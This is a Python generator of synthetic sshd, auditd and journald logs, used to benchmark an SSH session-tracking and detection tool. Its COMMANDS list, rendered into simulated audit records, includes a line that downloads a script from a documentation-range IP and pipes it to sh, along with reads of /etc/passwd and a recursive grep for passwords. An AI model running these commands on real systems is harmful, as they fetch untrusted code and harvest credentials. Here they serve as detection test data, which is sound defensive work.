#!/usr/bin/env python3
"""Seeded generator of large, realistic inputs for sshtrail's benchmarks.

Kinds:
  sshd          sshd syslog: RFC 3164 and RFC 3339 headers, many hosts,
                accounts and sources; brute-force noise, logins with PAM
                session open and close, VERBOSE "Starting session", "User
                child is on pid", disconnects.
  audit         Linux audit.log: interleaved events of concurrent sessions;
                the PAM chain, LOGIN assigning ses, USER_START/USER_END,
                execve events (SYSCALL, EXECVE, CWD, PATH, PROCTITLE, EOE),
                raw and enriched records, hex arguments; cron sessions and
                failed logins as noise.
  journald      `journalctl -o json` lines carrying the sshd messages of
                the sshd kind, with entries of other programs between them.
  corpus-sshd   the sshd syslog lines of $SSHTRAIL_CORPUS/ssh-syslog,
  corpus-audit  or the records of $SSHTRAIL_CORPUS/auditd, repeated until
                the size is reached (real line shapes; no known counts).

The output goes to stdout or to --out, written in blocks as it is made, so
any size costs the same memory.  --counts FILE receives one JSON object
with the known answers: "sessions" (SSH logins that `sshtrail sessions`
must report) and "findings" (SSH sessions followed by execution, which is
what `sshtrail detect` writes one line for).  For the corpus kinds both are
null.  Every kind stays inside 2024, so `--year 2024` reads RFC 3164 stamps
right.
"""
import argparse
import heapq
import json
import os
import random
import sys

START = 1704067200              # 2024-01-01T00:00:00Z
MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep",
          "Oct", "Nov", "Dec"]
BLOCK = 1 << 20


def parse_size(text):
    """Returns the byte count of a size such as 100M, 2G or 4096."""
    units = {"K": 1 << 10, "M": 1 << 20, "G": 1 << 30}
    text = text.strip().upper().rstrip("B")
    if text and text[-1] in units:
        return int(float(text[:-1]) * units[text[-1]])
    return int(text)


class Writer:
    """Collects output lines and writes them in blocks up to a byte limit."""

    def __init__(self, stream, limit):
        self.stream = stream
        self.limit = limit
        self.written = 0
        self.lines = 0
        self.parts = []
        self.pending = 0

    def full(self):
        return self.written + self.pending >= self.limit

    def add(self, line):
        data = line.encode("utf-8", "surrogateescape") + b"\n"
        self.parts.append(data)
        self.pending += len(data)
        self.lines += 1
        if self.pending >= BLOCK:
            self.flush()

    def flush(self):
        self.stream.write(b"".join(self.parts))
        self.written += self.pending
        self.parts = []
        self.pending = 0


class Clock:
    """Formats UTC stamps; caches the calendar of the current day."""

    def __init__(self):
        self.day = None
        self.ymd = None

    def _fields(self, t):
        sec = int(t)
        day, rem = divmod(sec, 86400)
        if day != self.day:
            import datetime
            d = datetime.date(1970, 1, 1) + datetime.timedelta(days=day)
            self.day = day
            self.ymd = (d.year, d.month, d.day)
        h, rem = divmod(rem, 3600)
        m, s = divmod(rem, 60)
        return self.ymd, h, m, s

    def rfc3164(self, t):
        (_, mon, mday), h, m, s = self._fields(t)
        return "%s %2d %02d:%02d:%02d" % (MONTHS[mon - 1], mday, h, m, s)

    def rfc3339(self, t):
        (y, mon, mday), h, m, s = self._fields(t)
        us = int((t - int(t)) * 1e6)
        return "%04d-%02d-%02dT%02d:%02d:%02d.%06d+00:00" % (
            y, mon, mday, h, m, s, us)


class World:
    """Hosts, accounts and addresses shared by the sshd-like kinds."""

    def __init__(self, rng):
        self.rng = rng
        self.hosts = (["web%02d" % i for i in range(40)] +
                      ["db%02d" % i for i in range(12)] +
                      ["bastion%d.corp.example.com" % i for i in range(4)])
        self.users = ["alice", "bob", "carol", "dave", "deploy", "backup",
                      "git", "ansible", "root", "jenkins", "erin", "frank"]
        self.uids = {u: (0 if u == "root" else 1000 + i)
                     for i, u in enumerate(self.users)}
        self.guesses = ["root", "admin", "test", "oracle", "ubuntu", "pi",
                        "postgres", "user", "ftpuser", "guest", "support",
                        "hadoop", "nagios", "mysql", "www"]
        self.attackers = ["198.18.%d.%d" % (rng.randrange(256),
                                            rng.randrange(1, 255))
                          for _ in range(400)]
        self.attackers += ["2001:db8:%x::%x" % (rng.randrange(65536),
                                                rng.randrange(1, 65536))
                           for _ in range(40)]
        self.clients = ["10.%d.%d.%d" % (rng.randrange(256),
                                         rng.randrange(256),
                                         rng.randrange(1, 255))
                        for _ in range(120)]
        self.pid = 2000
        self.ses = 100

    def next_pid(self):
        self.pid += self.rng.randrange(1, 7)
        if self.pid > 4000000:
            self.pid = 2000
        return self.pid

    def fingerprint(self):
        chars = ("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"
                 "0123456789+/")
        return "SHA256:" + "".join(self.rng.choice(chars) for _ in range(43))


def sshd_brute(w, t, out):
    """A burst of failed guesses from one address: (time, host, pid, msg)."""
    rng = w.rng
    host = rng.choice(w.hosts)
    addr = rng.choice(w.attackers)
    for _ in range(rng.randrange(1, 6)):
        pid = w.next_pid()
        port = rng.randrange(1024, 65536)
        user = rng.choice(w.guesses)
        invalid = user not in w.users
        if invalid:
            out.append((t, host, pid, "Invalid user %s from %s port %d"
                        % (user, addr, port)))
            t += rng.uniform(0.1, 0.8)
            out.append((t, host, pid, "pam_unix(sshd:auth): check pass; "
                        "user unknown"))
        out.append((t, host, pid,
                    "pam_unix(sshd:auth): authentication failure; logname= "
                    "uid=0 euid=0 tty=ssh ruser= rhost=%s%s"
                    % (addr, "" if invalid else "  user=" + user)))
        t += rng.uniform(1.0, 3.0)
        out.append((t, host, pid, "Failed password for %s%s from %s port "
                    "%d ssh2" % ("invalid user " if invalid else "", user,
                                 addr, port)))
        t += rng.uniform(0.1, 0.5)
        if rng.random() < 0.5:
            out.append((t, host, pid, "Received disconnect from %s port "
                        "%d:11: Bye Bye [preauth]" % (addr, port)))
            out.append((t, host, pid, "Disconnected from %s user %s %s "
                        "port %d [preauth]" % (
                            "invalid" if invalid else "authenticating",
                            user, addr, port)))
        else:
            out.append((t, host, pid, "Connection closed by %s user %s %s "
                        "port %d [preauth]" % (
                            "invalid" if invalid else "authenticating",
                            user, addr, port)))
        t += rng.uniform(0.5, 4.0)
    return 0


def sshd_login(w, t, out):
    """One successful login with its session; returns 1 (one session)."""
    rng = w.rng
    host = rng.choice(w.hosts)
    user = rng.choice(w.users)
    uid = w.uids[user]
    addr = rng.choice(w.clients)
    port = rng.randrange(1024, 65536)
    pid = w.next_pid()
    child = w.next_pid()
    out.append((t, host, pid, "Connection from %s port %d on 10.0.0.1 port "
                "22 rdomain \"\"" % (addr, port)))
    t += rng.uniform(0.05, 0.4)
    if rng.random() < 0.7:
        out.append((t, host, pid, "Accepted publickey for %s from %s port "
                    "%d ssh2: ED25519 %s" % (user, addr, port,
                                              w.fingerprint())))
    else:
        out.append((t, host, pid, "Accepted password for %s from %s port "
                    "%d ssh2" % (user, addr, port)))
    t += 0.004
    out.append((t, host, pid, "pam_unix(sshd:session): session opened for "
                "user %s(uid=%d) by (uid=0)" % (user, uid)))
    t += 0.003
    out.append((t, host, pid, "User child is on pid %d" % child))
    t += 0.03
    if rng.random() < 0.6:
        out.append((t, host, child, "Starting session: shell on pts/%d for "
                    "%s from %s port %d id 0" % (rng.randrange(12), user,
                                                 addr, port)))
    else:
        out.append((t, host, child, "Starting session: command for %s from "
                    "%s port %d id 0" % (user, addr, port)))
    t += rng.uniform(2.0, 240.0)
    out.append((t, host, child, "Received disconnect from %s port %d:11: "
                "disconnected by user" % (addr, port)))
    out.append((t, host, child, "Disconnected from user %s %s port %d"
                % (user, addr, port)))
    t += 0.002
    out.append((t, host, pid, "pam_unix(sshd:session): session closed for "
                "user %s" % user))
    return 1


def sshd_messages(w, limit_fn):
    """Yields (time, host, pid, message) in time order until limit_fn()."""
    rng = w.rng
    heap = []
    seq = 0
    t = float(START)
    counts = {"sessions": 0}
    while not limit_fn():
        t += rng.expovariate(1.0 / 0.02)
        batch = []
        if rng.random() < 0.12:
            counts["sessions"] += sshd_login(w, t, batch)
        else:
            sshd_brute(w, t, batch)
        for item in batch:
            heapq.heappush(heap, (item[0], seq, item))
            seq += 1
        while heap and heap[0][0] <= t:
            yield heapq.heappop(heap)[2]
    # Lines still pending finish their sessions; they may pass the size.
    while heap:
        yield heapq.heappop(heap)[2]
    yield counts


def gen_sshd(rng, writer):
    w = World(rng)
    clock = Clock()
    styles = {h: (clock.rfc3339 if i % 3 == 0 else clock.rfc3164)
              for i, h in enumerate(w.hosts)}
    counts = None
    for item in sshd_messages(w, writer.full):
        if isinstance(item, dict):
            counts = item
            break
        t, host, pid, msg = item
        writer.add("%s %s sshd[%d]: %s" % (styles[host](t), host, pid, msg))
        if rng.random() < 0.05:
            writer.add("%s %s CRON[%d]: pam_unix(cron:session): session "
                       "opened for user root(uid=0) by (uid=0)"
                       % (styles[host](t), host, w.next_pid()))
    counts["findings"] = 0
    return counts


def gen_journald(rng, writer):
    w = World(rng)
    clock = Clock()
    boot = "%032x" % rng.getrandbits(128)
    machine = "%032x" % rng.getrandbits(128)
    seqnum = 1
    counts = None
    for item in sshd_messages(w, writer.full):
        if isinstance(item, dict):
            counts = item
            break
        t, host, pid, msg = item
        us = int(t * 1e6)
        entry = {
            "__CURSOR": "s=%s;i=%x;b=%s;m=%x;t=%x;x=%016x" % (
                machine, seqnum, boot, us - START * 1000000, us,
                rng.getrandbits(64)),
            "__REALTIME_TIMESTAMP": str(us),
            "__MONOTONIC_TIMESTAMP": str(us - START * 1000000 + 5000000),
            "_BOOT_ID": boot,
            "_TRANSPORT": "syslog",
            "PRIORITY": "6",
            "SYSLOG_FACILITY": "10",
            "SYSLOG_IDENTIFIER": "sshd",
            "SYSLOG_PID": str(pid),
            "SYSLOG_TIMESTAMP": clock.rfc3164(t) + " ",
            "_PID": str(pid),
            "_UID": "0",
            "_GID": "0",
            "_COMM": "sshd",
            "_EXE": "/usr/sbin/sshd",
            "_CMDLINE": "sshd: [accepted]",
            "_CAP_EFFECTIVE": "1ffffffffff",
            "_SYSTEMD_CGROUP": "/system.slice/ssh.service",
            "_SYSTEMD_UNIT": "ssh.service",
            "_SYSTEMD_SLICE": "system.slice",
            "_SYSTEMD_INVOCATION_ID": "%032x" % (seqnum * 7919),
            "_MACHINE_ID": machine,
            "_HOSTNAME": host,
            "MESSAGE": msg,
            "_SOURCE_REALTIME_TIMESTAMP": str(us - 11),
        }
        seqnum += 1
        writer.add(json.dumps(entry, separators=(",", ":")))
        if rng.random() < 0.1:
            entry = {
                "__CURSOR": "s=%s;i=%x;b=%s" % (machine, seqnum, boot),
                "__REALTIME_TIMESTAMP": str(us),
                "__MONOTONIC_TIMESTAMP": str(us - START * 1000000 + 5000000),
                "_BOOT_ID": boot,
                "_TRANSPORT": "journal",
                "PRIORITY": "6",
                "SYSLOG_IDENTIFIER": "systemd",
                "_PID": "1",
                "_COMM": "systemd",
                "_HOSTNAME": host,
                "MESSAGE": "Started session-%d.scope - Session %d of User "
                           "alice." % (seqnum, seqnum),
            }
            seqnum += 1
            writer.add(json.dumps(entry, separators=(",", ":")))
    counts["findings"] = 0
    return counts


# ---- audit -----------------------------------------------------------------

COMMANDS = [
    (["id"], "/usr/bin/id"),
    (["uname", "-a"], "/usr/bin/uname"),
    (["ls", "-la", "/var/www"], "/usr/bin/ls"),
    (["cat", "/etc/passwd"], "/usr/bin/cat"),
    (["ps", "aux"], "/usr/bin/ps"),
    (["bash", "-c", "id; uname -a; curl -fsSL http://198.51.100.7/x.sh | sh"],
     "/usr/bin/bash"),
    (["curl", "-fsSL", "http://198.51.100.7/x.sh"], "/usr/bin/curl"),
    (["systemctl", "status", "nginx"], "/usr/bin/systemctl"),
    (["grep", "-r", "password", "/etc"], "/usr/bin/grep"),
    (["tar", "czf", "/tmp/backup files.tgz", "/srv/data"], "/usr/bin/tar"),
    (["python3", "-c", "print('hello world')"], "/usr/bin/python3"),
    (["git", "pull", "--rebase"], "/usr/bin/git"),
]


def hexs(text):
    return text.encode().hex().upper()


def audit_arg(text):
    """Encodes one value as auditd does: quoted, or hex when it must be."""
    if any(c in text for c in ' "\'\\') or any(ord(c) < 0x21 or ord(c) > 0x7e
                                                for c in text):
        return hexs(text)
    return '"%s"' % text


class Audit:
    """Turns session plans into audit records, per host serial numbers."""

    def __init__(self, w, enriched_share):
        self.w = w
        self.serial = {h: w.rng.randrange(1000, 90000) for h in w.hosts}
        self.enriched = {h: w.rng.random() < enriched_share for h in w.hosts}

    def event(self, t, host, records):
        """Returns the lines of one event: records share stamp and serial."""
        self.serial[host] += 1
        head = "node=%s type=%%s msg=audit(%d.%03d:%d): " % (
            host, int(t), int((t - int(t)) * 1000), self.serial[host])
        return [head % typ + body for typ, body in records]

    def enrich(self, host, body, extra):
        if self.enriched[host]:
            return body + "\x1d" + extra
        return body

    def pam(self, host, typ, pid, auid, ses, op, user, exe, addr, term,
            res, grantors="pam_permit"):
        body = ("pid=%d uid=0 auid=%d ses=%d msg='op=%s grantors=%s "
                "acct=\"%s\" exe=\"%s\" hostname=%s addr=%s terminal=%s "
                "res=%s'" % (pid, auid, ses, op, grantors, user, exe, addr,
                             addr, term, res))
        return (typ, self.enrich(host, body,
                                 'UID="root" AUID="%s"' % (
                                     "unset" if auid == 4294967295
                                     else str(auid))))

    def execve(self, t, host, pid, ppid, uid, ses):
        argv, exe = self.w.rng.choice(COMMANDS)
        comm = os.path.basename(exe)
        syscall = ("arch=c000003e syscall=59 success=yes exit=0 a0=55d1c2e0 "
                   "a1=55d1c2f0 a2=55d1c300 a3=8 items=2 ppid=%d pid=%d "
                   "auid=%d uid=%d gid=%d euid=%d suid=%d fsuid=%d egid=%d "
                   "sgid=%d fsgid=%d tty=pts0 ses=%d comm=\"%s\" exe=\"%s\" "
                   "subj=unconfined key=\"exec\"" % (
                       ppid, pid, uid, uid, uid, uid, uid, uid, uid, uid, uid,
                       ses, comm, exe))
        syscall = self.enrich(host, syscall,
                              'ARCH=x86_64 SYSCALL=execve AUID="u%d" '
                              'UID="u%d"' % (uid, uid))
        args = " ".join("a%d=%s" % (i, audit_arg(a))
                        for i, a in enumerate(argv))
        title = hexs("\0".join(argv))
        return self.event(t, host, [
            ("SYSCALL", syscall),
            ("EXECVE", "argc=%d %s" % (len(argv), args)),
            ("CWD", "cwd=%s" % audit_arg("/home/u%d" % uid)),
            ("PATH", "item=0 name=\"%s\" inode=%d dev=fe:01 mode=0100755 "
                     "ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 "
                     "cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0"
                     % (exe, 260000 + len(exe))),
            ("PATH", "item=1 name=\"/lib64/ld-linux-x86-64.so.2\" "
                     "inode=131 dev=fe:01 mode=0100755 ouid=0 ogid=0 "
                     "rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 "
                     "cap_fver=0 cap_frootid=0"),
            ("PROCTITLE", "proctitle=%s" % title),
            ("EOE", ""),
        ])


def audit_ssh_session(a, t, out, with_exec):
    """Plans one SSH login; returns 1 when it has executions."""
    w = a.w
    rng = w.rng
    host = rng.choice(w.hosts)
    user = rng.choice(w.users)
    uid = w.uids[user]
    addr = rng.choice(w.clients)
    pid = w.next_pid()
    child = w.next_pid()
    w.ses += 1
    ses = w.ses
    unset = 4294967295
    exe = "/usr/sbin/sshd"
    steps = [
        a.pam(host, "USER_AUTH", pid, unset, unset, "PAM:authentication",
              user, exe, addr, "ssh", "success", "pam_unix"),
        a.pam(host, "USER_ACCT", pid, unset, unset, "PAM:accounting",
              user, exe, addr, "ssh", "success"),
        a.pam(host, "CRED_ACQ", pid, unset, unset, "PAM:setcred",
              user, exe, addr, "ssh", "success"),
    ]
    for rec in steps:
        out.append((t, a.event(t, host, [rec])))
        t += 0.002
    login = ("pid=%d uid=0 old-auid=%d auid=%d tty=(none) old-ses=%d ses=%d "
             "res=1" % (pid, unset, uid, unset, ses))
    out.append((t, a.event(t, host, [
        ("LOGIN", a.enrich(host, login, 'UID="root" OLD-AUID="unset" '
                                        'AUID="u%d"' % uid)),
        ("SYSCALL", "arch=c000003e syscall=1 success=yes exit=4 a0=3 "
                    "a1=7ffd6e8786d0 a2=4 a3=0 items=0 ppid=812 pid=%d "
                    "auid=%d uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 "
                    "fsgid=0 tty=(none) ses=%d comm=\"sshd\" exe=\"%s\" "
                    "key=(null)" % (pid, uid, ses, exe)),
        ("PROCTITLE", "proctitle=%s" % hexs("sshd: %s [priv]" % user)),
        ("EOE", ""),
    ])))
    t += 0.005
    out.append((t, a.event(t, host, [
        a.pam(host, "USER_START", pid, uid, ses, "PAM:session_open", user,
              exe, addr, "ssh", "success",
              "pam_loginuid,pam_keyinit,pam_permit,pam_unix,pam_limits")])))
    t += 0.002
    out.append((t, a.event(t, host, [
        a.pam(host, "CRED_ACQ", child, uid, ses, "PAM:setcred", user, exe,
              addr, "ssh", "success")])))
    t += 0.01
    term = "/dev/pts/%d" % rng.randrange(12)
    body = ("pid=%d uid=0 auid=%d ses=%d msg='op=login id=%d exe=\"%s\" "
            "hostname=%s addr=%s terminal=%s res=success'"
            % (pid, uid, ses, uid, exe, addr, addr, term))
    out.append((t, a.event(t, host, [("USER_LOGIN", body)])))
    shell = w.next_pid()
    if with_exec:
        for _ in range(rng.randrange(1, 8)):
            t += rng.uniform(0.05, 20.0)
            out.append((t, a.execve(t, host, w.next_pid(), shell, uid, ses)))
    t += rng.uniform(1.0, 60.0)
    out.append((t, a.event(t, host, [
        a.pam(host, "USER_END", pid, uid, ses, "PAM:session_close", user,
              exe, addr, "ssh", "success")])))
    t += 0.002
    out.append((t, a.event(t, host, [
        a.pam(host, "CRED_DISP", pid, uid, ses, "PAM:setcred", user, exe,
              addr, "ssh", "success")])))
    return 1 if with_exec else 0


def audit_noise(a, t, out):
    """A failed SSH login or a cron session with its executions."""
    w = a.w
    rng = w.rng
    host = rng.choice(w.hosts)
    pid = w.next_pid()
    unset = 4294967295
    if rng.random() < 0.6:
        addr = rng.choice(w.attackers)
        user = rng.choice(w.guesses)
        out.append((t, a.event(t, host, [
            a.pam(host, "USER_AUTH", pid, unset, unset,
                  "PAM:authentication", user, "/usr/sbin/sshd", addr, "ssh",
                  "failed", "?")])))
        body = ("pid=%d uid=0 auid=%d ses=%d msg='op=login acct=%s "
                "exe=\"/usr/sbin/sshd\" hostname=%s addr=%s terminal=ssh "
                "res=failed'" % (pid, unset, unset, hexs("(invalid user)"),
                                 addr, addr))
        out.append((t + 2.0, a.event(t + 2.0, host, [("USER_LOGIN", body)])))
        return
    w.ses += 1
    ses = w.ses
    exe = "/usr/sbin/cron"
    out.append((t, a.event(t, host, [
        ("LOGIN", "pid=%d uid=0 old-auid=%d auid=0 tty=(none) old-ses=%d "
                  "ses=%d res=1" % (pid, unset, unset, ses))])))
    out.append((t, a.event(t, host, [
        a.pam(host, "USER_START", pid, 0, ses, "PAM:session_open", "root",
              exe, "?", "cron", "success")])))
    t += 0.01
    out.append((t, a.execve(t, host, w.next_pid(), pid, 0, ses)))
    t += 0.5
    out.append((t, a.event(t, host, [
        a.pam(host, "USER_END", pid, 0, ses, "PAM:session_close", "root",
              exe, "?", "cron", "success")])))


def gen_audit(rng, writer):
    w = World(rng)
    a = Audit(w, 0.3)
    heap = []
    seq = 0
    t = float(START)
    counts = {"sessions": 0, "findings": 0}
    while not writer.full():
        t += rng.expovariate(1.0 / 0.05)
        batch = []
        r = rng.random()
        if r < 0.4:
            counts["sessions"] += 1
            counts["findings"] += audit_ssh_session(a, t, batch,
                                                    rng.random() < 0.85)
        else:
            audit_noise(a, t, batch)
        for item in batch:
            heapq.heappush(heap, (item[0], seq, item[1]))
            seq += 1
        while heap and heap[0][0] <= t:
            for line in heapq.heappop(heap)[2]:
                writer.add(line)
    while heap:
        for line in heapq.heappop(heap)[2]:
            writer.add(line)
    return counts


# ---- corpus replication ----------------------------------------------------

def corpus_lines(folder, suffixes):
    """Returns the usable lines of the real files in folder, in file order."""
    lines = []
    for name in sorted(os.listdir(folder)):
        if not name.endswith(suffixes):
            continue
        with open(os.path.join(folder, name), "rb") as f:
            for raw in f:
                raw = raw.rstrip(b"\r\n")
                if raw and not raw.startswith(b"#"):
                    lines.append(raw)
    return lines


def gen_corpus(kind, writer):
    root = os.environ.get("SSHTRAIL_CORPUS")
    if not root:
        sys.exit("gen.py: %s needs SSHTRAIL_CORPUS" % kind)
    if kind == "corpus-sshd":
        lines = corpus_lines(os.path.join(root, "ssh-syslog"), (".log",))
    else:
        lines = corpus_lines(os.path.join(root, "auditd"), (".log",))
    if not lines:
        sys.exit("gen.py: no lines found for %s under %s" % (kind, root))
    block = b"\n".join(lines) + b"\n"
    while not writer.full():
        writer.parts.append(block)
        writer.pending += len(block)
        writer.lines += len(lines)
        if writer.pending >= BLOCK:
            writer.flush()
    return {"sessions": None, "findings": None}


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("kind", choices=["sshd", "audit", "journald",
                                     "corpus-sshd", "corpus-audit"])
    ap.add_argument("--size", default="100M",
                    help="bytes to write, such as 100M or 2G")
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--out", help="file to write (default: stdout)")
    ap.add_argument("--counts", help="file for the known answers (JSON)")
    args = ap.parse_args()

    stream = open(args.out, "wb") if args.out else sys.stdout.buffer
    writer = Writer(stream, parse_size(args.size))
    rng = random.Random(args.seed)
    if args.kind == "sshd":
        counts = gen_sshd(rng, writer)
    elif args.kind == "audit":
        counts = gen_audit(rng, writer)
    elif args.kind == "journald":
        counts = gen_journald(rng, writer)
    else:
        counts = gen_corpus(args.kind, writer)
    writer.flush()
    stream.flush()
    counts["bytes"] = writer.written
    counts["lines"] = writer.lines
    if args.counts:
        with open(args.counts, "w") as f:
            json.dump(counts, f)
            f.write("\n")


if __name__ == "__main__":
    main()
